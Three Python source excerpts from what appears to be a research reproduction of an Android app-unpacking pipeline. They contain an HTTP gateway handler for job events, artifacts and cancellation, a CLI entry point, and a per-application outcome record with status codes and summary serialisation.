            "app_id": app_id,
            "state": JobState.QUEUED,
            "priority": priority,
            "deduplicated": False,
        })

    def _get_job(self, job_id: str) -> None:
        record = self.gateway.store.load(job_id)
        if record is None:
            self._error(404, f"no job {job_id!r}")
            return
        self._send_json(200, JobHandle.from_record(record).to_dict())

    def _get_events(self, job_id: str, query: dict) -> None:
        gateway = self.gateway
        if gateway.store.load(job_id) is None:
            self._error(404, f"no job {job_id!r}")
            return
        follow = query.get("follow", ["0"])[0] in ("1", "true", "yes")
        if not follow:
            frames = b"".join(
                event_to_frame(e) for e in gateway.store.events()
                if e.get("job_id") == job_id)
            self.send_response(200)
            self.send_header("Content-Type", "application/x-ndjson")
            self.send_header("Content-Length", str(len(frames)))
            self.end_headers()
            self.wfile.write(frames)
            return
        try:
            timeout = float(query.get("timeout",
                                      [FOLLOW_TIMEOUT_DEFAULT_S])[0])
        except ValueError:
            timeout = FOLLOW_TIMEOUT_DEFAULT_S
        self.send_response(200)
        self.send_header("Content-Type", "application/x-ndjson")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        deadline = time.monotonic() + max(0.0, timeout)
        offset = 0
        terminal = False
        try:
            while not terminal and time.monotonic() < deadline:
                events, offset = gateway.store.tail_events(offset)
                for event in events:
                    if event.get("job_id") != job_id:
                        continue
                    self._write_chunk(event_to_frame(event))
                    if event.get("kind") in TERMINAL_EVENTS:
                        terminal = True
                if not terminal:
                    time.sleep(0.1)
            self._write_chunk(b"")  # final zero-length chunk
        except (BrokenPipeError, ConnectionResetError):
            pass  # client went away mid-tail; nothing to clean up

    def _write_chunk(self, data: bytes) -> None:
        self.wfile.write(f"{len(data):x}\r\n".encode("ascii"))
        self.wfile.write(data)
        self.wfile.write(b"\r\n")
        self.wfile.flush()

    def _get_artifact(self, digest: str) -> None:
        if not is_artifact_digest(digest):
            self._error(400, "not an artifact digest")
            return
        data = self.gateway.artifacts.get(digest)
        if data is None:
            self._error(404, f"no artifact {digest[:12]}…")
            return
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream")
        self.send_header("Content-Length", str(len(data)))
        self.send_header("X-Artifact-Digest", digest)
        self.end_headers()
        self.wfile.write(data)

    def _post_cancel(self, job_id: str) -> None:
        disposition = self.gateway.store.request_cancel(job_id)
        if disposition is None:
            record = self.gateway.store.load(job_id)
            if record is None:
                self._error(404, f"no job {job_id!r}")
            else:
                self._send_json(200, {"job_id": job_id,
                                      "cancel": "already-terminal",
                                      "state": record.get("state")})
            return
        self._send_json(200, {"job_id": job_id, "cancel": disposition})
