"""Module entry point: ``python -m repro.service reveal-batch ...``."""

from repro.service.cli import main

if __name__ == "__main__":
    raise SystemExit(main())
