"""Per-application outcome records for batch extraction.

A :class:`RevealOutcome` is the service-layer wrapper around one
pipeline run: the paper's ``reveal`` produces a
:class:`~repro.core.pipeline.RevealResult` (or raises), and the batch
service normalises either into a uniform record so a corpus run can be
summarised, cached, and resumed without losing per-app detail.

Statuses
--------

``ok``
    Collection, reassembly and verification all succeeded.
``crashed``
    The VM crashed while driving the app (``VmCrash``/``VmThrow``); the
    pipeline still reassembles whatever was collected before the crash.
``budget-exceeded``
    The interpreter hit its step budget before the drive finished; the
    revealed DEX covers only the executed prefix.
``verify-failed``
    Reassembly produced a DEX the verifier rejected (paper §IV-C's
    validity requirement) — a pipeline bug, surfaced rather than hidden.
``error``
    Any other Python-level failure (bad input, unregistered native
    library, a crashing drive callable...).  One erroring app must never
    abort the batch; it becomes an ``error`` record instead.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.pipeline import RevealResult
from repro.runtime.apk import Apk

STATUS_OK = "ok"
STATUS_CRASHED = "crashed"
STATUS_BUDGET_EXCEEDED = "budget-exceeded"
STATUS_VERIFY_FAILED = "verify-failed"
STATUS_ERROR = "error"

ALL_STATUSES = (
    STATUS_OK,
    STATUS_CRASHED,
    STATUS_BUDGET_EXCEEDED,
    STATUS_VERIFY_FAILED,
    STATUS_ERROR,
)

#: Statuses that are deterministic pipeline outputs and therefore safe to
#: serve from the result cache.  ``verify-failed`` and ``error`` are
#: excluded so a fixed pipeline (or fixed input) gets a fresh run.
CACHEABLE_STATUSES = (STATUS_OK, STATUS_CRASHED, STATUS_BUDGET_EXCEEDED)


def classify_result(result) -> str:
    """Map a completed pipeline result to an outcome status.

    Accepts anything carrying the drive-outcome flags — a full
    :class:`RevealResult` or a collect-only
    :class:`~repro.core.stages.CollectResult`.
    """
    if result.crashed:
        return STATUS_CRASHED
    if result.budget_exhausted:
        return STATUS_BUDGET_EXCEEDED
    return STATUS_OK


@dataclass
class RevealOutcome:
    """One application's result inside a batch run.

    Fields:

    * ``app_id`` — caller-chosen identifier (usually the package name).
    * ``status`` — one of :data:`ALL_STATUSES` above.
    * ``cache_hit`` — True when the record was served from the result
      cache instead of running the pipeline.
    * ``latency_s`` — wall-clock seconds for this app's pipeline run
      (the *original* run's latency when served from cache).
    * ``dump_size_bytes`` — total size of the collection files
      (Table VI's "Dump File Size" column).
    * ``collector_stats`` — :meth:`DexLegoCollector.stats` snapshot.
    * ``error`` — human-readable failure reason for non-``ok`` records.
    * ``failed_stage`` — which pipeline stage died (``collect`` /
      ``reassemble`` / ``verify`` / ``repack``) for ``verify-failed``
      and stage-level ``error`` records; empty otherwise.
    * ``stage_timings`` — per-stage wall-clock seconds from the
      pipeline run, keyed by stage name.
    * ``exploration`` — force-execution scheduler digest
      (:meth:`~repro.core.force_execution.ForceExecutionReport.to_summary`:
      strategy, paths explored, UCBs discovered vs. covered, replays
      saved by dedup, coverage curve); empty when the coverage module
      did not run.
    * ``index_stats`` — corpus-index dedup accounting when the service
      ran with an ``index_dir``: method bodies replayed from the
      :class:`~repro.index.corpus.CorpusIndex` vs emitted fresh, plus
      how many of this app's methods the corpus already knew; empty
      when no index was attached.
    * ``cluster_stats`` — auto-labeling verdict when the service ran
      with a ``cluster_dir``: the family the
      :class:`~repro.cluster.labels.AutoLabeler` assigned, per-method
      known / near-miss counts and nearest-known-method evidence; empty
      when no cluster store was attached.
    * ``queue_wait_s`` — seconds the job sat queued before a worker
      started it (submit→start); 0.0 for direct ``reveal_one`` calls
      that never queued.  ``latency_s`` remains start→finish.
    * ``degraded`` — names of optional subsystems (``index``,
      ``cluster``, ``cache``, ``predecode``) that were unavailable or
      corrupt during this reveal and were bypassed under the
      graceful-degradation policy.  Empty for a fully-provisioned run;
      a non-empty list never changes ``status`` (that is the point).
    * ``cache_key`` — content-addressed key the record is stored under.
    * ``result`` — the live :class:`RevealResult` when the pipeline ran
      in-process; ``None`` for disk-cache hits and process workers.
    * ``revealed_apk_bytes`` — serialised revealed APK; set whenever the
      full result object is unavailable (cache hits, process backend).
    """

    app_id: str
    status: str
    cache_hit: bool = False
    latency_s: float = 0.0
    dump_size_bytes: int = 0
    collector_stats: dict = field(default_factory=dict)
    error: str = ""
    failed_stage: str = ""
    stage_timings: dict = field(default_factory=dict)
    exploration: dict = field(default_factory=dict)
    index_stats: dict = field(default_factory=dict)
    cluster_stats: dict = field(default_factory=dict)
    queue_wait_s: float = 0.0
    degraded: list = field(default_factory=list)
    cache_key: str = ""
    result: RevealResult | None = None
    revealed_apk_bytes: bytes | None = None

    @property
    def ok(self) -> bool:
        return self.status == STATUS_OK

    @property
    def revealed_apk(self) -> Apk | None:
        """The revealed application, whatever the record's provenance."""
        if self.result is not None:
            return self.result.revealed_apk
        if self.revealed_apk_bytes is not None:
            return Apk.from_bytes(self.revealed_apk_bytes)
        return None

    @property
    def reassembled_dex(self):
        """Primary DEX of the revealed APK (None when unavailable)."""
        apk = self.revealed_apk
        return apk.primary_dex if apk is not None and apk.dex_files else None

    @classmethod
    def from_summary(cls, summary: dict,
                     revealed_apk_bytes: bytes | None = None
                     ) -> "RevealOutcome":
        """Rebuild an outcome from a :meth:`to_summary` digest.

        The inverse the HTTP client needs: a gateway job record carries
        the summary (and artifact digests), not the live result object.
        Round-trips everything ``to_summary`` emits; the APK bytes are
        grafted back on when the caller fetched the artifact.
        """
        return cls(
            app_id=summary.get("app_id", ""),
            status=summary.get("status", STATUS_ERROR),
            cache_hit=bool(summary.get("cache_hit", False)),
            latency_s=float(summary.get("latency_s", 0.0) or 0.0),
            dump_size_bytes=int(summary.get("dump_size_bytes", 0) or 0),
            error=summary.get("error", "") or "",
            failed_stage=summary.get("failed_stage", "") or "",
            stage_timings=dict(summary.get("stage_timings") or {}),
            exploration=dict(summary.get("exploration") or {}),
            index_stats=dict(summary.get("index_stats") or {}),
            cluster_stats=dict(summary.get("cluster_stats") or {}),
            queue_wait_s=float(summary.get("queue_wait_s", 0.0) or 0.0),
            degraded=list(summary.get("degraded") or []),
            cache_key=summary.get("cache_key", "") or "",
            revealed_apk_bytes=revealed_apk_bytes,
        )

    def to_summary(self) -> dict:
        """JSON-safe digest (no APK payload) for reports and the CLI."""
        return {
            "app_id": self.app_id,
            "status": self.status,
            "cache_hit": self.cache_hit,
            "latency_s": round(self.latency_s, 6),
            "dump_size_bytes": self.dump_size_bytes,
            "error": self.error,
            "failed_stage": self.failed_stage,
            "stage_timings": {
                stage: round(seconds, 6)
                for stage, seconds in self.stage_timings.items()
            },
            "exploration": self.exploration,
            "index_stats": self.index_stats,
            "cluster_stats": self.cluster_stats,
            "queue_wait_s": round(self.queue_wait_s, 6),
            "degraded": list(self.degraded),
            "cache_key": self.cache_key,
        }
